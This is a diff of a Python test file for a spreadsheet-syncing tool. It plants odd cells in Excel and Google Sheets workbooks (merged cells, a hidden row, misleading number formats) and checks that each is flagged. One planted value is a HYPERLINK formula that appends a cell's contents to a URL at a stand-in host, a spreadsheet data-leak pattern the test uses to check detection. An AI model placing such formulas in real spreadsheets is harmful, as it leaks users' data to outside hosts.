@@ -10,15 +10,31 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from openpyxl import load_workbook
+from openpyxl.cell import Cell
 
+from connectors.google.emulator import Hands
 from flows.desk import Pass
 from flows.report import as_json
+from sheets_schema.grid import FormulaCell, Raw
 from tests.connectors.google.place import Place, google
 from tests.flows.on_google import release_on_google, sample_on_google
 from tests.flows.sampled import NEXT_DAY, passed, release, sample, typed
 
 STEPS = ("first pass", "nothing new", "released", "a mark corrected", "a cell nobody can read", "the next day")
-TABS = ("Sessions", "Attendance", "Decisions", "To do", "Claims", "Notes", "Messages", "Benefits", "Grid", "Dashboard")
+TABS = (
+    "Clients",
+    "Sessions",
+    "Attendance",
+    "Decisions",
+    "To do",
+    "Claims",
+    "Notes",
+    "Messages",
+    "Benefits",
+    "Grid",
+    "Dashboard",
+)
 
 
 @dataclass
@@ -28,6 +44,7 @@ class Side:
     folder: Path
     type: Callable[..., None]
     release: Callable[[], None]
+    odd: Callable[[], None]
     came: dict[str, dict[str, Any]] = field(default_factory=dict)
 
     def step(self, name: str, this: Pass) -> None:
@@ -57,7 +74,59 @@ def _without_mark(path: Path) -> bytes | str:
 
 def tabs(this: Pass) -> dict[str, Any]:
     grids = this.desk.workbook.snapshot(TABS).grids
-    return {title: [tuple(row) for row in grid.rows] for title, grid in grids.items()}
+    return {title: [tuple(map(_entered, row)) for row in grid.rows] for title, grid in grids.items()}
+
+
+def _entered(cell: Raw) -> Raw:
+    """A cell; of a formula only itself, since a program that fills in a file works nothing out."""
+    return str(cell) if isinstance(cell, FormulaCell) else cell
+
+
+CALLS_OUT = '=HYPERLINK("https://example.com/?"&D2,"Present")'
+LOOKS = (("Clients", "C-005", "Member ID", 123, "00000"), ("Payments", "P-002", "Amount", 0.2, "0%"))
+"""Numbers that look other than they are."""
+
+
+def odd_in_file(path: Path) -> None:
+    """What says more than a value, put in with another program: a formula, looks, a hidden row, merged cells."""
+    book = load_workbook(path)
+
+    def cell(tab: str, row_id: str, heading: str) -> Cell:
+        row = next(r[0].row for r in book[tab].iter_rows(max_col=1) if r[0].value == row_id)
+        column = next(c.column for c in book[tab][1] if c.value == heading)
+        found = book[tab].cell(row, column)
+        assert isinstance(found, Cell)
+        return found
+
+    cell("Attendance", "G-02/05/C-008", "Mark").value = CALLS_OUT
+    for tab, row_id, heading, value, look in LOOKS:
+        at = cell(tab, row_id, heading)
+        at.value, at.number_format = value, look
+    hidden, merged = (cell("Attendance", row_id, "Reason") for row_id in ("G-01/05/C-002", "G-01/04/C-001"))
+    book["Attendance"].row_dimensions[hidden.row].hidden = True
+    merged.value = "Snow"
+    end = merged.row + 1
+    book["Attendance"].merge_cells(None, merged.row, merged.column, end, merged.column)
+    book.save(path)
+
+
+def odd_in_google(hands: Hands) -> None:
+    """The same in Google."""
+    row, mark, reason = (
+        hands.row_of("Attendance", "G-02/05/C-008"),
+        hands.column_of("Attendance", "Mark"),
+        hands.column_of("Attendance", "Reason"),
+    )
+    hands.look("Attendance", row, mark, "NUMBER", "0")  # else the column takes the formula for text
+    hands.put("Attendance", row, mark, CALLS_OUT)
+    for tab, row_id, heading, value, look in LOOKS:
+        place = hands.row_of(tab, row_id), hands.column_of(tab, heading)
+        hands.put(tab, *place, value)
+        hands.look(tab, *place, "PERCENT" if look.endswith("%") else "NUMBER", look)
+    hands.hide_row("Attendance", hands.row_of("Attendance", "G-01/05/C-002"))
+    row = hands.row_of("Attendance", "G-01/04/C-001")
+    hands.put("Attendance", row, reason, "Snow")
+    hands.merge("Attendance", row, reason, down=2)
 
 
 def work(side: Side) -> None:
@@ -69,6 +138,7 @@ def work(side: Side) -> None:
     side.step(STEPS[3], passed(side.folder))
     side.type("Clients", "C-002", Mobile="call her sister")
     side.type("Attendance", "G-01/05/C-001", Mark="perhaps")
+    side.odd()
     side.step(STEPS[4], passed(side.folder))
     side.step(STEPS[5], passed(side.folder, NEXT_DAY))
 
@@ -84,8 +154,13 @@ def sides(_fresh: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tu
         def type_there(tab: str, row_id: str, **cells: object) -> None:
             place.hands.type(tab, row_id, {h.replace("_", " "): v for h, v in cells.items()})
 
-        in_file = Side(file, lambda tab, row_id, **cells: typed(file, tab, row_id, **cells), lambda: release(file))
-        in_google = Side(cloud, type_there, lambda: release_on_google(cloud, place))
+        in_file = Side(
+            file,
+            lambda tab, row_id, **cells: typed(file, tab, row_id, **cells),
+            lambda: release(file),
+            lambda: odd_in_file(file / "practice.xlsx"),
+        )
+        in_google = Side(cloud, type_there, lambda: release_on_google(cloud, place), lambda: odd_in_google(place.hands))
         for side in (in_file, in_google):
             work(side)
         yield in_file, in_google, place
@@ -105,7 +180,15 @@ def test_the_steps_did_something(sides: tuple[Side, Side, Place]) -> None:
     assert came["nothing new"]["effects"] == []
     assert [e["kind"] for e in came["released"]["effects"]].count("batch") == 1
     assert came["a mark corrected"]["effects"]
-    assert {f["row_id"] for f in came["a cell nobody can read"]["findings"]} == {"C-002", "G-01/05/C-001"}
+    assert {(f["code"], f["row_id"]) for f in came["a cell nobody can read"]["findings"]} == {
+        ("PHONE_DIGITS", "C-002"),
+        ("MARK_UNKNOWN", "G-01/05/C-001"),
+        ("CELL_FORMULA_OUT", "G-02/05/C-008"),
+        ("MONEY_IS_PERCENT", "P-002"),
+        ("CELL_MERGED", ""),
+        ("ROWS_HIDDEN", ""),
+    }
+    assert "00123" in {str(cell) for row in came["a cell nobody can read"]["tabs"]["Clients"] for cell in row}
     assert came["the next day"]["effects"]
 
 
